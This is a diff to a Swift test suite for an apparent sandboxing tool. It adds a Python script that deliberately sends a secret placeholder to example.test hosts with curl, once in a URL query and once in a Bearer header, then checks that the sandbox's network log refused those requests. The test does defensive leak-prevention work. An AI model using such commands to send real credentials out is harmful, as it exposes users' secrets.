@@ -216,6 +216,13 @@ struct SecretsCommandTests {
             r = subprocess.run(["curl", "-sS", "-o", "/dev/null", "-w", "%{http_code}", "-x", os.environ["HTTPS_PROXY"],
                                 "https://" + os.environ["K"].upper() + ".example.test/"], capture_output=True, text=True)
             print("connect", r.stdout, r.stderr.strip())
+            # Plain HTTP: the placeholder in the query, then in a header, then neither.
+            for extra in (["http://plain.example.test/?k=" + os.environ["K"]],
+                          ["-H", "Authorization: Bearer " + os.environ["K"], "http://header.example.test/"],
+                          ["http://clean.example.test/"]):
+                r = subprocess.run(["curl", "-sS", "-o", "/dev/null", "-w", "%{http_code}", "-x", os.environ["HTTP_PROXY"]] + extra,
+                                   capture_output=True, text=True)
+                print("plain", extra[-1].split("/")[2], r.stdout)
             """
         let r = try await h.cordon(["run", "--name", "leak", "--profile", "leak", "--workspace", h.workspace, "--", "/usr/bin/python3", "-c", script])
         let placeholder = try String(contentsOfFile: h.state + "/cordon/sandboxes/leak/placeholders.json", encoding: .utf8)
@@ -226,8 +233,13 @@ struct SecretsCommandTests {
         let log = try String(contentsOfFile: h.state + "/cordon/sandboxes/leak/network.jsonl", encoding: .utf8)
         let entries = try log.split(separator: "\n").map { try json(String($0)) }
         let refused = entries.filter { $0["rule"] as? String == "placeholder" }
-        #expect(refused.count >= 2, "\(log)")
-        #expect(refused.allSatisfy { ($0["host"] as? String ?? "").lowercased().contains("cordon-ph-") }, "\(log)")
+        // The DNS query and the CONNECT target.
+        #expect(refused.filter { ($0["host"] as? String ?? "").lowercased().contains("cordon-ph-") }.count >= 2, "\(log)")
+        // Plain requests carrying it in the target or a header are refused before any dial.
+        for host in ["plain.example.test", "header.example.test"] {
+            #expect(entries.contains { ($0["host"] as? String) == host && $0["rule"] as? String == "placeholder" }, "\(host): \(log)")
+        }
+        #expect(entries.contains { ($0["host"] as? String) == "clean.example.test" && $0["rule"] as? String != "placeholder" }, "\(log)")
         // The name without the placeholder was decided by the profile's lists, not this rule.
         #expect(entries.contains { ($0["host"] as? String) == "plain.example.test" && $0["rule"] as? String != "placeholder" }, "\(log)")
     }
